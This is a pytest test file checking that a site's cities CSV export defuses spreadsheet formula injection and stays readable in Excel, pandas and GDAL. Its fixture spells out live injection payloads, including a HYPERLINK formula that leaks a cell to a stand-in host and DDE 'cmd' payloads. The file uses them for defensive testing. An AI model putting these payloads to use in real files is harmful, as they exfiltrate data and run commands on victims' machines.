"""Safe downloads: /api/v1/cities.csv cannot carry a spreadsheet formula (OWASP, "CSV
Injection"), keeps negative numbers numeric, opens in Excel with its accents (UTF-8 byte
order mark), and still reads in Python's csv, pandas and GDAL."""

import csv
import io

import pandas
import pyogrio
import pytest

from tests.factories import CityPageFactory

pytestmark = pytest.mark.django_db

HOSTILE_NAMES = {
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")': "'=HYPERLINK(",
    "+cmd|' /C calc'!A0": "'+cmd|",
    "-2+3": "'-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0": "'@SUM(",
    "\t=1+1": "'\t=1+1",
    "\r=1+1": "'\r=1+1",
}


@pytest.fixture
def hostile_cities(site_tree):
    for number, name in enumerate(HOSTILE_NAMES):
        CityPageFactory(
            parent=site_tree["city_index"], title=name, slug=f"hostile-{number}", country="PL"
        )
    CityPageFactory(
        parent=site_tree["city_index"], title="Gdańsk", slug="gdansk", country="PL",
        lat=54.35, lng=18.65,
    )
    CityPageFactory(
        parent=site_tree["city_index"], title="Berlin;=1+1", slug="semicolon", country="DE",
        lat=-33.9, lng=-70.7,
    )


def download(client):
    response = client.get("/api/v1/cities.csv?country=PL")
    assert response.status_code == 200
    return response.content


def test_no_cell_starts_a_formula_and_numbers_stay_numbers(client, hostile_cities):
    body = client.get("/api/v1/cities.csv").content
    rows = list(csv.DictReader(io.StringIO(body.decode("utf-8-sig"), newline="")))
    names = {row["name"] for row in rows}
    for hostile, neutralised in HOSTILE_NAMES.items():
        assert any(name.startswith(neutralised) for name in names), hostile
    for row in rows:
        for column, value in row.items():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")) or column in (
                "lat",
                "lng",
            ), (column, value)
    valencia = next(row for row in rows if row["name"] == "Valencia")
    assert valencia["lng"] == "-0.38"  # a negative number is left alone
    # Text is quoted, so a ";" (the separator of German Excel) cannot start a new cell.
    assert b'"Berlin;=1+1"' in body
    assert b",-0.38," in body  # numbers are written bare


def test_excel_sees_utf8_and_python_csv_pandas_and_gdal_read_it(client, hostile_cities, tmp_path):
    body = download(client)
    assert body.startswith(b"\xef\xbb\xbf")  # the byte order mark Excel needs for UTF-8
    assert "Gdańsk".encode() in body

    rows = list(csv.DictReader(io.StringIO(body.decode("utf-8-sig"), newline="")))
    assert {row["name"] for row in rows} >= {"Gdańsk", "'-2+3"}
    assert list(rows[0])[0] == "name"

    frame = pandas.read_csv(io.BytesIO(body))
    assert list(frame.columns)[:2] == ["name", "country"]
    assert "Gdańsk" in set(frame["name"])
    assert frame["lat"].dtype.kind == "f" and frame["population"].dtype.kind in "if"

    path = tmp_path / "cities.csv"
    path.write_bytes(body)
    meta, _fids, _geometry, fields = pyogrio.raw.read(path, AUTODETECT_TYPE="YES")
    columns = dict(zip(meta["fields"], fields, strict=True))
    assert "Gdańsk" in set(columns["name"])
    assert columns["lat"].dtype.kind == "f"
    assert meta["fields"][0] == "name"
